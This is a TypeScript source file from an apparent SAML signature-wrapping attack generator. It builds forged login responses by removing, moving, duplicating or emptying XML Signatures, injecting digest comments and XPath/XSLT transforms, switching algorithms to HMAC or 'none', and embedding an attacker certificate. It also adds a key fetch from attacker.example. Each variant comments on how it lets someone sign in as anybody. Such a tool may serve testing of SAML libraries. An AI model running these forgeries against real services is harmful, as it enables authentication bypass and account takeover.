// The Signature itself: taken away, moved, pointed elsewhere, or made by the attacker. What it covers is forged in each.
import { ASSERTION, DSIG, HMAC_SHA256, XPATH, XSLT } from "../names.js";
import { attributeNamed, attributeValue, childNamed, contentOf, type TreeNode } from "../xml-tree.js";
import { before, behind, type Edit, removed, replaced } from "./edits.js";
import { forgeryAgainst, type LoginParts, partOf, type Signed, signedParts, wholeOf } from "./login.js";
import type { Preparation } from "./preparation.js";
import type { Group, Variant } from "./variants.js";

export function signatureVariants(login: LoginParts, preparations: readonly Preparation[]): Variant[] {
  const signed = signedParts(login);
  if (signed.length === 0) return [];
  const one = signed.flatMap((each, at) => ofOne(login, each, preparations[at] ?? UNPREPARED, signed.length === 1 ? "the Signature" : `the Signature of the ${each.owner.local}`));
  return [variant("Signature", "No Signature", "Whoever can write XML signs in as anybody.", wholeOf(login, [...login.forgery, ...signed.map(({ signature }) => removed(signature))])), ...moved(login), ...one];
}

const UNPREPARED: Preparation = { digest: null, byOwnKey: null, byHmac: null };

const variant = (group: Group, title: string, wins: string, text: string): Variant => ({ group, title, wins, text });

/** To the Response, which core 5.4.2 forbids. */
function moved(login: LoginParts): Variant[] {
  const { ofAssertion, ofResponse, response } = login;
  const issuer = childNamed(response, ASSERTION, "Issuer");
  if (ofAssertion === null || ofResponse !== null || issuer === null) return [];
  const signature = partOf(login, ofAssertion.signature);
  return [variant("Signature", "The Assertion's Signature moved to the Response", "A library that finds some Signature that verifies reads what is not covered.", wholeOf(login, [...login.forgery, removed(ofAssertion.signature), behind(issuer, signature)]))];
}

function ofOne(login: LoginParts, signed: Signed, prepared: Preparation, name: string): Variant[] {
  const { owner, signature } = signed;
  const info = childNamed(signature, DSIG, "SignedInfo");
  const reference = childNamed(info, DSIG, "Reference");
  const digest = childNamed(reference, DSIG, "DigestValue");
  const value = childNamed(signature, DSIG, "SignatureValue");
  const uri = attributeNamed(reference, "URI");
  if (info === null || reference === null || digest === null || value === null || uri === null) return [];
  const parts = { owner, signature, info, reference, digest, value };
  const forged = (...edits: Edit[]) => wholeOf(login, [...forgeryAgainst(login, signed), ...edits]);
  return [
    variant("Signature", `${capital(name)} emptied`, "A library that is content with the presence of a Signature verifies nothing.", forged(replaced(contentOf(signature), ""))),
    variant("Signature", `${capital(name)} twice`, "A library that takes out each Signature of that value digests less than it reads.", forged(behind(signature, partOf(login, signature)))),
    variant("Signature", `The Reference of ${name} emptied`, "An empty URI means the whole document to some, and nothing to others.", forged(replaced(uri.inner, ""))),
    variant("Signature", `The Reference of ${name} to another ID`, "What is verified is another element than what is read.", forged(replaced(uri.inner, `#${otherId(login, owner)}`))),
    variant("Signature", `A second Reference in ${name}`, "A library that checks only the last Reference, or the first, trusts the other.", forged(behind(reference, partOf(login, reference, [replaced(uri.inner, `#${otherId(login, owner)}`)])))),
    variant("Signature", `A second SignedInfo in ${name}`, "The value is verified over the one, and the digest is read from the other.", forged(before(info, partOf(login, info, prepared.digest === null ? [] : [replaced(contentOf(digest), prepared.digest)])))),
    variant("Signature", `The digest of nothing in ${name}`, "A library whose canonicalisation fails digests an empty text, and finds it equal.", forged(replaced(contentOf(digest), DIGEST_OF_NOTHING))),
    ...ofDigest(parts, prepared, name, forged),
    ...ofAlgorithms(parts, prepared, name, forged),
    ...ofKeys(parts, prepared, name, forged),
  ];
}

interface Parts extends Signed {
  readonly info: TreeNode;
  readonly reference: TreeNode;
  readonly digest: TreeNode;
  readonly value: TreeNode;
}

type Forged = (...edits: Edit[]) => string;

function ofDigest({ digest }: Parts, { digest: computed }: Preparation, name: string, forged: Forged): Variant[] {
  if (computed === null) return [];
  return [
    variant("Signature", `The digest in ${name} computed anew, its value left`, "A library that checks digests, and not the signature over them, accepts any content.", forged(replaced(contentOf(digest), computed))),
    variant("Signature", `A comment with the new digest in ${name}`, "The signature is verified without the comment, and a reader of the first text takes the digest in it for the real one.", forged(replaced({ start: digest.element.tagEnd, end: digest.element.tagEnd }, `<!--${computed}-->`))),
    variant("Signature", `The new digest in front of a comment in ${name}`, "A reader that stops at the comment takes the attacker's digest.", forged(replaced({ start: digest.element.tagEnd, end: digest.element.tagEnd }, `${computed}<!---->`))),
  ];
}

function ofAlgorithms({ info, value, reference, digest }: Parts, { byHmac }: Preparation, name: string, forged: Forged): Variant[] {
  const transforms = childNamed(reference, DSIG, "Transforms");
  const method = childNamed(info, DSIG, "SignatureMethod");
  const algorithm = attributeNamed(method, "Algorithm");
  const made: Variant[] = [];
  const group = "Keys and algorithms";
  const add = (title: string, wins: string, text: string) => made.push(variant(group, title, wins, text));
  if (transforms !== null && transforms.element.contentEnd !== transforms.element.end) {
    const start = transforms.element.tagEnd;
    const transform = (text: string): Edit => ({ start, end: start, text });
    add(`An XPath Transform in ${name}`, "The name is left out of what is digested.", forged(transform(`<q:Transform xmlns:q="${DSIG}" Algorithm="${XPATH}"><q:XPath xmlns:a="${ASSERTION}">not(ancestor-or-self::a:Subject)</q:XPath></q:Transform>`)));
    add(`An XSLT Transform in ${name}`, "A style sheet of the attacker's runs in the library, before anything is verified.", forged(transform(`<q:Transform xmlns:q="${DSIG}" Algorithm="${XSLT}"><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/">x</x:template></x:stylesheet></q:Transform>`)));
  }
  if (algorithm !== null) {
    const mac = byHmac === null ? [] : [replaced(contentOf(digest), byHmac.digest), replaced(contentOf(value), byHmac.value)];
    add(`The algorithm of ${name} changed to HMAC${byHmac === null ? "" : ", computed with the public certificate"}`, "A library that takes the public key for a shared secret accepts what anybody can compute.", forged(replaced(algorithm.inner, HMAC_SHA256), ...mac));
    add(`The algorithm of ${name} changed to none, its value emptied`, "A library that knows an algorithm that signs nothing verifies nothing.", forged(replaced(algorithm.inner, "none"), replaced(contentOf(value), "")));
  }
  add(`The value of ${name} emptied`, "A library that compares with nothing finds nothing different.", forged(replaced(contentOf(value), "")));
  return made;
}

function ofKeys({ signature, digest, value, info }: Parts, { byOwnKey }: Preparation, name: string, forged: Forged): Variant[] {
  const known = childNamed(signature, DSIG, "KeyInfo");
  const keyInfo = (content: string) => {
    const text = `<q:KeyInfo xmlns:q="${DSIG}">${content}</q:KeyInfo>`;
    return known === null ? behind(value, text) : replaced(known, text);
  };
  const wins = "A library that takes the key from the message lets the attacker choose it.";
  const group = "Keys and algorithms";
  const method = attributeNamed(childNamed(info, DSIG, "SignatureMethod"), "Algorithm");
  const own = byOwnKey === null || method === null ? [] : [variant(group, `Signed anew by a key of the attacker's, which ${name} names`, wins, forged(replaced(method.inner, byOwnKey.algorithm), replaced(contentOf(digest), byOwnKey.digest), replaced(contentOf(value), byOwnKey.value), keyInfo(byOwnKey.keyInfo)))];
  return [
    variant(group, `Another certificate in ${name}`, wins, forged(keyInfo(`<q:X509Data><q:X509Certificate>${CERTIFICATE}</q:X509Certificate></q:X509Data>`))),
    variant(group, `A key to fetch in ${name}`, "The library fetches the attacker's key, or what an address inside the network answers.", forged(keyInfo(`<q:RetrievalMethod URI="https://attacker.example/key.der" Type="${DSIG}rawX509Certificate"/>`))),
    ...own,
  ];
}

function otherId({ response, assertion }: LoginParts, owner: TreeNode): string {
  const other = owner === response ? assertion : response;
  const id = attributeValue(other, "ID");
  return id === null || !/^[\w.-]+$/.test(id) ? "_other" : id;
}

const capital = (text: string) => text.charAt(0).toUpperCase() + text.slice(1);

/** SHA-256 of no octets. */
const DIGEST_OF_NOTHING = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";

/** Self-signed by `CN=attacker`; its private key was never kept. */
const CERTIFICATE =
  "MIIBezCCASGgAwIBAgIUZ/J2u+hLSYsUU9kr4KW+UhkK6agwCgYIKoZIzj0EAwIwEzERMA8GA1UEAwwIYXR0YWNrZXIwHhcNMjYxMTI2MDcyNzA2WhcNNDYxMTIxMDcyNzA2WjATMREwDwYDVQQDDAhhdHRhY2tlcjBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABFtTIbGxQApjRbMplEmNOUQu08CLP1c2vpyWZCjFPEGX1JO+vqNX11yFr5gWXD3x0NH876iHOjDZ7Ah5gjxEqh2jUzBRMB0GA1UdDgQWBBR2XY0ipJjkoYRQ3U6JK/srvfMuOjAfBgNVHSMEGDAWgBR2XY0ipJjkoYRQ3U6JK/srvfMuOjAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0gAMEUCIQDiGFmUjAlS5ma1CEuleRjvfBmZKsoOtVg6KwrJe0RVFwIgdCNo+4U/TiRqO7UYmt5MiHzbwIg0BHSqvqUnzZ2oz50=";
